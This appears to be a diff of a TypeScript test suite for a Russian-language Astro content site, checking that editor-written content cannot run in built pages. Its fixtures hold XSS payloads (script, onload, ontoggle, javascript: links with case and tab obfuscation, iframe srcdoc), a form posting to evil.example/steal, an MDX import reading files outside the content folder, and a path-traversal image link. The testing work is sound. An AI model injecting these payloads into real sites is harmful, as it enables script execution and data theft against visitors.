@@ -28,7 +28,7 @@ const VECTORS = [
   '<svg onload="alert(\'XSS-svg\')"><script>alert(1)</script></svg>',
   '<iframe srcdoc="<script>alert(\'XSS-srcdoc\')</script>"></iframe>',
   '<details ontoggle="alert(\'XSS-toggle\')" open><summary>Подробнее</summary>текст</details>',
-  'Ссылки: <a href="javascript:alert(\'XSS-a\')">одна</a>, [другая](javascript:alert(\'XSS-md\')), <a href="JaVa&#x09;Script:alert(\'XSS-tab\')">третья</a>.',
+  "Ссылки: <a href=\"javascript:alert('XSS-a')\">одна</a>, [другая](javascript:alert('XSS-md')), <a href=\"JaVa&#x09;Script:alert('XSS-tab')\">третья</a>.",
   'Счётчик: <img src="https://evil.example/pixel.png" alt=""> и <object data="https://evil.example/x.swf"></object>',
   '<style>body { background: url(https://evil.example/bg.png) }</style>',
   '<form action="https://evil.example/steal"><input name="p"></form>',
@@ -77,7 +77,10 @@ function poisonedSample(): string {
 function refusedSample(): string {
   const dir = join(root, 'refused', 'content');
   cpSync(join(ROOT, 'content'), dir, { recursive: true });
-  writeFileSync(join(dir, 'guides', 'mdx-import.mdx'), MDX_GUIDE.replace('1. Открой', `import fs from 'node:fs';\n\n{fs.readFileSync('${join(outside, 'marker.txt')}', 'utf8')}\n\n1. Открой`));
+  writeFileSync(
+    join(dir, 'guides', 'mdx-import.mdx'),
+    MDX_GUIDE.replace('1. Открой', `import fs from 'node:fs';\n\n{fs.readFileSync('${join(outside, 'marker.txt')}', 'utf8')}\n\n1. Открой`),
+  );
   const guide = join(dir, 'guides', 'videourok.md');
   writeFileSync(guide, `${readFileSync(guide, 'utf8')}\n\n![Схема][secret]\n\n[secret]: ../../../outside/secret.svg\n`);
   return dir;
@@ -116,7 +119,10 @@ beforeAll(() => {
   mkdirSync(outside, { recursive: true });
   writeFileSync(join(outside, 'secret.svg'), SCRIPTED_SVG);
   writeFileSync(join(outside, 'marker.txt'), 'MARKER-FROM-OUTSIDE');
-  writeFileSync(join(outside, 'sekretov.yaml'), readFileSync(join(ROOT, 'content', 'staff', 'petrov-i-v.yaml'), 'utf8').replace(/^name: .*$/m, 'name: Секретов Секрет Секретович'));
+  writeFileSync(
+    join(outside, 'sekretov.yaml'),
+    readFileSync(join(ROOT, 'content', 'staff', 'petrov-i-v.yaml'), 'utf8').replace(/^name: .*$/m, 'name: Секретов Секрет Секретович'),
+  );
   poisoned = poisonedSample();
   site = join(root, 'poisoned-dist');
   built = astroBuildWithoutCheck(poisoned, 'poisoned');
@@ -132,7 +138,8 @@ describe('the checker is the gate', () => {
       const errors = checkContent(poisoned).problems.filter((problem) => problem.severity === 'error');
       const files = new Set(errors.map((problem) => problem.file));
       for (const folder of ['guides', 'faq', 'announcements', 'pages']) {
-        for (const name of readdirSync(join(poisoned, folder)).filter((file) => /\.mdx?$/.test(file))) expect(files, `${folder}/${name}`).toContain(`${folder}/${name}`);
+        for (const name of readdirSync(join(poisoned, folder)).filter((file) => /\.mdx?$/.test(file)))
+          expect(files, `${folder}/${name}`).toContain(`${folder}/${name}`);
       }
       expect(files).toContain('guides/images/skhema.svg');
       expect(files).toContain('staff/sekretov-s-s.yaml');
@@ -154,19 +161,25 @@ describe('the checker is the gate', () => {
 });
 
 describe('the build without the checker', () => {
-  test('refuses an MDX import and a picture from outside, in Russian, and publishes nothing', () => {
-    const run = astroBuildWithoutCheck(refusedSample(), 'refused');
-    expect(run.status, run.output).not.toBe(0);
-    expect(run.output).toMatch(/в файлах \.mdx нельзя писать код|ведёт за пределы папки с содержимым/);
-    expect(run.output).not.toContain('MARKER-FROM-OUTSIDE');
-  }, BUILD_TIMEOUT);
+  test(
+    'refuses an MDX import and a picture from outside, in Russian, and publishes nothing',
+    () => {
+      const run = astroBuildWithoutCheck(refusedSample(), 'refused');
+      expect(run.status, run.output).not.toBe(0);
+      expect(run.output).toMatch(/в файлах \.mdx нельзя писать код|ведёт за пределы папки с содержимым/);
+      expect(run.output).not.toContain('MARKER-FROM-OUTSIDE');
+    },
+    BUILD_TIMEOUT,
+  );
 
   test('builds the poisoned sample', () => {
     expect(built.status, built.output).toBe(0);
   });
 
   test('nothing an editor wrote runs, in pages, the feed or any export', () => {
-    const files = ['.html', '.xml', '.json', '.ics', '.vcf'].flatMap((extension) => filesOf(site, extension)).filter((file) => !file.includes('/pagefind/'));
+    const files = ['.html', '.xml', '.json', '.ics', '.vcf']
+      .flatMap((extension) => filesOf(site, extension))
+      .filter((file) => !file.includes('/pagefind/'));
     expect(files.length).toBeGreaterThan(20);
     for (const file of files) {
       const text = readFileSync(file, 'utf8');
@@ -183,9 +196,20 @@ describe('the build without the checker', () => {
       const page = parseHtmlFile(file);
       const events = findAll(page, (node) => (node.attrs ?? []).some((a) => /^on/i.test(a.name)));
       // The site's own embed page previews itself in an iframe of the same origin; nothing else frames.
-      const active = findAll(page, (node) => ['iframe', 'object', 'embed', 'frame'].includes(node.nodeName) && !(node.nodeName === 'iframe' && (attr(node, 'src') ?? '').startsWith('/')));
-      expect(events.map((node) => node.nodeName), file).toEqual([]);
-      expect(active.map((node) => node.nodeName), file).toEqual([]);
+      const active = findAll(
+        page,
+        (node) =>
+          ['iframe', 'object', 'embed', 'frame'].includes(node.nodeName) &&
+          !(node.nodeName === 'iframe' && (attr(node, 'src') ?? '').startsWith('/')),
+      );
+      expect(
+        events.map((node) => node.nodeName),
+        file,
+      ).toEqual([]);
+      expect(
+        active.map((node) => node.nodeName),
+        file,
+      ).toEqual([]);
     }
   });
 
